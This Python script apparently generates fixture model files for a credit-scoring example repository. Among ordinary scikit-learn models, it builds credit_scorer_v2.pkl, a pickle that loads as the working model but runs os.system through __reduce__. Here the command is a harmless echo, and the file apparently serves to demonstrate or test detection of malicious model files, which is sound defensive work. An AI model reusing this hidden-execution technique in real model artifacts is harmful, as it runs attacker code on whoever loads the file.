"""Save the models of the example with the real scikit-learn, joblib and NumPy.

    python make_models.py ..

The versions are those of scripts/requirements.txt at the top of the repository:
they give the same bytes again, on the same kind of processor.
"""

import os
import pathlib
import pickle
import sys

root = pathlib.Path(sys.argv[1])
sys.path.insert(0, str(root))

import joblib  # noqa: E402
import numpy as np  # noqa: E402
import pandas as pd  # noqa: E402
from sklearn.ensemble import RandomForestClassifier  # noqa: E402
from sklearn.pipeline import make_pipeline  # noqa: E402

from loan.features import RiskBands  # noqa: E402
from loan.train import CODED, NUMERIC, pipeline  # noqa: E402


class Payload:
    """Becomes a call when it is unpickled. Pickling it runs nothing."""

    def __reduce__(self):
        return os.system, ("echo merlon-demo",)


def hide(model) -> bytes:
    """A pickle that loads as the working model and runs the payload on the way."""
    model.steps[0][1].fitted_on_ = Payload()
    plain = pickle.dumps(model, protocol=3)
    # os.system pickles under the name of the C module; attackers write it by hand
    # under the name that everybody knows.
    named = plain.replace(b"c" + os.system.__module__.encode() + b"\nsystem\n", b"cos\nsystem\n")
    assert named != plain
    return named


def main() -> None:
    frame = pd.read_csv(root / "data/german_sample.csv")
    models = root / "models"
    scorer = pipeline().fit(frame[NUMERIC + CODED], frame["credit"])

    joblib.dump(scorer, models / "credit_scorer_v1.joblib")
    with open(models / "baseline.pkl", "wb") as f:
        pickle.dump(scorer.named_steps["classify"], f)

    forest = RandomForestClassifier(n_estimators=12, max_depth=4, random_state=0)
    forest.fit(frame[NUMERIC], frame["credit"])
    joblib.dump(forest, models / "credit_forest.joblib", compress=("zlib", 3))

    rng = np.random.default_rng(0)
    np.savez(models / "purpose_embeddings.npz", vectors=rng.normal(size=(10, 16)).astype(np.float32),
             codes=np.array(sorted(set(frame["purpose"])), dtype="U4"))

    bands = make_pipeline(RiskBands(), RandomForestClassifier(n_estimators=2, max_depth=2, random_state=0))
    bands.fit(frame[["credit_amount"]], frame["credit"])
    joblib.dump(bands, models / "risk_bands.joblib")

    (models / "credit_scorer_v2.pkl").write_bytes(hide(scorer))


if __name__ == "__main__":
    main()
